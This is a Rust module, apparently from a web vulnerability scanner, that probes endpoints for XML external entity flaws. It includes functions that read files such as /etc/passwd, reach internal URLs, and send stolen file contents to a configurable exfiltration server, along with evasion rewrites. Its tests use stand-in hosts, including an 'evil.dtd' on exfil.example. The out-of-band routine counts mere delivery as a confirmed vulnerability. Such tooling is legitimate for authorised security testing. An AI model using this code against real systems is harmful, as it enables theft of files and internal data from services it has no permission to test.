//! XML external entity analyzer.
//!
//! Probes POST XML documents at an endpoint and watch the response for
//! leaked file or internal-server content. Out-of-band exploitation reports
//! best-effort: the leaked data lands on the exfiltration server, not in the
//! response, so a delivered payload is treated as success.

use std::collections::BTreeMap;

use anyhow::Result;
use regex::Regex;
use tracing::debug;
use url::Url;

use crate::analyzers::AnalysisResult;
use crate::http::client::Transport;
use crate::http::request::HttpRequest;
use crate::payloads::xxe::{self, XxeAttack};

const LEAKAGE_SIGNATURES: &[&str] = &[
    "root:x:",              // /etc/passwd
    "[fonts]",              // win.ini
    "[extensions]",         // win.ini
    "Internal server data", // internal endpoint banner
    "<?xml",
    "<!DOCTYPE",
    "file://",
    "http://",
];

pub struct XxeAnalyzer<'t, T> {
    transport: &'t T,
    exfiltration_server: String,
}

impl<'t, T: Transport> XxeAnalyzer<'t, T> {
    pub fn new(transport: &'t T) -> Self {
        Self {
            transport,
            exfiltration_server: "http://localhost:8080".to_string(),
        }
    }

    pub fn set_exfiltration_server(&mut self, server_url: impl Into<String>) {
        self.exfiltration_server = server_url.into();
    }

    async fn post_document(&self, url: &Url, document: &str) -> Option<String> {
        let req = HttpRequest::post_xml(url.clone(), document.to_string());
        match self.transport.send(req).await {
            Ok(resp) => Some(resp.body_text()),
            Err(err) => {
                debug!(error = %err, "XXE probe failed, skipping");
                None
            }
        }
    }

    /// Walk basic, advanced, then file-read payload sets, stopping at the
    /// first leaking response.
    pub async fn detect(&self, url: &Url) -> Result<AnalysisResult> {
        let tiers = [
            xxe::basic(),
            xxe::advanced(),
            xxe::attack_specific(XxeAttack::FileRead),
        ];
        for tier in tiers {
            for payload in tier {
                let Some(body) = self.post_document(url, payload).await else {
                    continue;
                };
                let result = classify(&body, payload);
                if result.vulnerable {
                    return Ok(result);
                }
            }
        }
        Ok(AnalysisResult::negative())
    }

    /// Read a specific file, retrying once with an evasion rewrite.
    pub async fn exploit_file_read(&self, url: &Url, file_path: &str) -> Result<AnalysisResult> {
        let payload = xxe::generate_file_read(file_path);
        if let Some(body) = self.post_document(url, &payload).await {
            let result = classify(&body, &payload);
            if result.vulnerable {
                return Ok(result);
            }
        }
        let evasion = xxe::apply_evasion(&payload);
        if let Some(body) = self.post_document(url, &evasion).await {
            return Ok(classify(&body, &evasion));
        }
        Ok(AnalysisResult::negative())
    }

    /// Reach an internal URL through the XML parser, retrying once with an
    /// evasion rewrite.
    pub async fn exploit_ssrf(&self, url: &Url, internal_url: &str) -> Result<AnalysisResult> {
        let payload = xxe::generate_ssrf(internal_url);
        if let Some(body) = self.post_document(url, &payload).await {
            let result = classify(&body, &payload);
            if result.vulnerable {
                return Ok(result);
            }
        }
        let evasion = xxe::apply_evasion(&payload);
        if let Some(body) = self.post_document(url, &evasion).await {
            return Ok(classify(&body, &evasion));
        }
        Ok(AnalysisResult::negative())
    }

    /// Stage out-of-band exfiltration of `file_path` through the configured
    /// exfiltration server. The leak travels out of band, so delivery is
    /// reported as success; confirming receipt is up to the server operator.
    pub async fn exploit_oob_exfiltration(
        &self,
        url: &Url,
        file_path: &str,
    ) -> Result<AnalysisResult> {
        let payload = xxe::generate_oob_exfiltration(&self.exfiltration_server, file_path);
        if self.post_document(url, &payload).await.is_none() {
            return Ok(AnalysisResult::negative());
        }
        Ok(AnalysisResult {
            vulnerable: true,
            vulnerability_type: "Out-of-Band XXE".to_string(),
            detail: XxeAttack::OutOfBand.name().to_string(),
            evidence: format!("payload delivered, data sent to {}", self.exfiltration_server),
            payload,
            impact_level: 5,
            ..Default::default()
        })
    }
}

/// Classify a response against the XML document that provoked it.
pub fn classify(body: &str, payload: &str) -> AnalysisResult {
    if !detect_data_leakage(body) {
        return AnalysisResult::negative();
    }
    let vulnerability_type = if payload.contains("file:") {
        "File Read"
    } else if payload.contains("http:") {
        "SSRF"
    } else {
        "XXE Generic"
    };
    AnalysisResult {
        vulnerable: true,
        vulnerability_type: vulnerability_type.to_string(),
        detail: vulnerability_type.to_string(),
        evidence: body.to_string(),
        payload: payload.to_string(),
        impact_level: 5,
        extracted_data: extract_leaked_data(body),
    }
}

fn detect_data_leakage(body: &str) -> bool {
    LEAKAGE_SIGNATURES.iter().any(|sig| body.contains(sig))
}

fn extract_leaked_data(body: &str) -> BTreeMap<String, String> {
    let mut extracted = BTreeMap::new();
    let Ok(re) = Regex::new("(?s)<response>(.*?)</response>") else {
        return extracted;
    };
    if let Some(caps) = re.captures(body) {
        let content = caps.get(1).map(|m| m.as_str()).unwrap_or_default();
        if content.contains("root:x:") {
            extracted.insert("file_type".to_string(), "/etc/passwd".to_string());
            extracted.insert("content".to_string(), content.to_string());
        } else if content.contains("[fonts]") {
            extracted.insert("file_type".to_string(), "win.ini".to_string());
            extracted.insert("content".to_string(), content.to_string());
        } else if content.contains("Internal server data") {
            extracted.insert("server_type".to_string(), "internal".to_string());
            extracted.insert("content".to_string(), content.to_string());
        } else {
            extracted.insert("unknown_data".to_string(), content.to_string());
        }
    }
    extracted
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::testing::{html_response, MockTransport};

    fn endpoint() -> Url {
        Url::parse("http://target.example/api/import").unwrap()
    }

    #[test]
    fn passwd_leak_classifies_as_file_read() {
        let body = "<response>root:x:0:0:root:/root:/bin/bash</response>";
        let result = classify(body, &xxe::generate_file_read("/etc/passwd"));
        assert!(result.vulnerable);
        assert_eq!(result.vulnerability_type, "File Read");
        assert_eq!(result.impact_level, 5);
        assert_eq!(
            result.extracted_data.get("file_type").map(String::as_str),
            Some("/etc/passwd")
        );
    }

    #[test]
    fn quiet_response_is_negative() {
        assert!(!classify("<response>No data leaked</response>", "<foo/>").vulnerable);
    }

    #[tokio::test]
    async fn detect_stops_on_first_leaking_document() {
        let transport = MockTransport::new(|req| {
            let sent = req.body.as_deref().unwrap_or_default();
            let sent = String::from_utf8_lossy(sent);
            if sent.contains("file:///etc/passwd") {
                html_response("<response>root:x:0:0:root:/root:/bin/bash</response>")
            } else {
                html_response("<response>No data leaked</response>")
            }
        });
        let analyzer = XxeAnalyzer::new(&transport);
        let result = analyzer.detect(&endpoint()).await.unwrap();
        assert!(result.vulnerable);
        assert_eq!(result.vulnerability_type, "File Read");
        assert_eq!(transport.sent(), 1);
    }

    #[tokio::test]
    async fn file_read_falls_back_to_evasion_rewrite() {
        let transport = MockTransport::new(|req| {
            let sent = req.body.as_deref().unwrap_or_default();
            let sent = String::from_utf8_lossy(sent);
            // only the UTF-16-declared variant slips through
            if sent.contains("encoding=\"UTF-16\"") {
                html_response("<response>root:x:0:0:root:/root:/bin/bash</response>")
            } else {
                html_response("<response>No data leaked</response>")
            }
        });
        let analyzer = XxeAnalyzer::new(&transport);
        let result = analyzer.exploit_file_read(&endpoint(), "/etc/passwd").await.unwrap();
        assert!(result.vulnerable);
        assert_eq!(transport.sent(), 2);
    }

    #[tokio::test]
    async fn ssrf_leak_classifies_as_ssrf() {
        let transport = MockTransport::new(|_| html_response("<response>Internal server data</response>"));
        let analyzer = XxeAnalyzer::new(&transport);
        let result = analyzer
            .exploit_ssrf(&endpoint(), "http://internal-server/")
            .await
            .unwrap();
        assert!(result.vulnerable);
        assert_eq!(result.vulnerability_type, "SSRF");
        assert_eq!(
            result.extracted_data.get("server_type").map(String::as_str),
            Some("internal")
        );
    }

    #[tokio::test]
    async fn oob_reports_delivery_against_configured_server() {
        let transport = MockTransport::new(|_| html_response("<ok/>"));
        let mut analyzer = XxeAnalyzer::new(&transport);
        analyzer.set_exfiltration_server("http://exfil.example:9090");
        let result = analyzer
            .exploit_oob_exfiltration(&endpoint(), "")
            .await
            .unwrap();
        assert!(result.vulnerable);
        assert_eq!(result.vulnerability_type, "Out-of-Band XXE");
        assert!(result.payload.contains("http://exfil.example:9090/evil.dtd"));
    }
}
